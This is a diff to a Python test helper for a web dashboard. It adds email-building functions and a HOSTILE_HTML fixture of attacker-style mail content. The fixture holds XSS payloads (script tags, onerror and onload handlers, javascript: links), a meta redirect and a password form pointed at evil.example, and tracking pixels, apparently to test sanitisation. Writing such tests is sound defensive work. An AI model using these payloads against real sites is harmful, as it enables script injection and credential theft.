@@ -7,15 +7,18 @@ from __future__ import annotations
 import re
 import secrets
 from dataclasses import dataclass, field
+from email.message import EmailMessage
+from email.utils import make_msgid
 from http.cookies import SimpleCookie
 from typing import Any
+from uuid import UUID
 
 import aiohttp
 
 from policy.dashboard.passwords import hash_password
 from policy.dashboard.sessions import COOKIE_NAME
 from storage.dashboard import users
-from tests.conftest import TenantWorld
+from tests.conftest import TenantWorld, smtp_send
 
 PASSWORD = "correct horse battery staple"
 _CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
@@ -67,7 +70,10 @@ class Reader:
             if COOKIE_NAME in parsed:
                 self.cookie = parsed[COOKIE_NAME].value or None
         return Page(
-            response.status, await response.text(), response.headers, response.headers.get("Location")
+            response.status,
+            await response.text(),
+            response.headers,
+            response.headers.get("Location"),
         )
 
     async def get(self, path: str) -> Page:
@@ -76,9 +82,7 @@ class Reader:
         ) as response:
             return await self._page(response)
 
-    async def post(
-        self, path: str, form: dict[str, str], *, origin: str | None = "self"
-    ) -> Page:
+    async def post(self, path: str, form: dict[str, str], *, origin: str | None = "self") -> Page:
         headers = {} if origin is None else {"Origin": self.origin if origin == "self" else origin}
         async with self.http.post(
             self.base + path, data=form, headers=self._headers(headers), allow_redirects=False
@@ -97,3 +101,41 @@ def reader(base: str, http: aiohttp.ClientSession) -> Reader:
 
 def session() -> aiohttp.ClientSession:
     return aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar())
+
+
+# Received mail is attacker-controlled: each line tries one way to run script, leave the page
+# or load something from elsewhere.
+HOSTILE_HTML = """<p id="hello">Hello <b>there</b>, about my order</p>
+<script>alert("script")</script>
+<img src="x" onerror="alert('onerror')">
+<svg onload="alert('svg')"><circle r="1"></circle></svg>
+<a id="js-link" href="javascript:alert('link')">click me</a>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>
+<div style="color: red; background: url(https://tracker.example/bg.png)">styled</div>
+<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
+<iframe src="https://evil.example/frame"></iframe>
+"""
+
+
+def reply_message(address: str, *, text: str, html: str | None = None) -> bytes:
+    """A customer's reply to our reply address, as a mail client writes it."""
+    msg = EmailMessage()
+    msg["From"] = "Carol <customer@example.net>"
+    msg["To"] = address
+    msg["Subject"] = "Re: Your order"
+    msg["Message-ID"] = make_msgid(domain="example.net")
+    msg.set_content(text)
+    if html is not None:
+        msg.add_alternative(html, subtype="html")
+    return msg.as_bytes(policy=msg.policy.clone(linesep="\r\n"))
+
+
+async def reply_through_mx(
+    mx_port: int, address: str, *, text: str, html: str | None = None
+) -> UUID:
+    sent = await smtp_send(
+        mx_port, "customer@example.net", [address], reply_message(address, text=text, html=html)
+    )
+    [stored] = sent.stored_ids
+    return stored
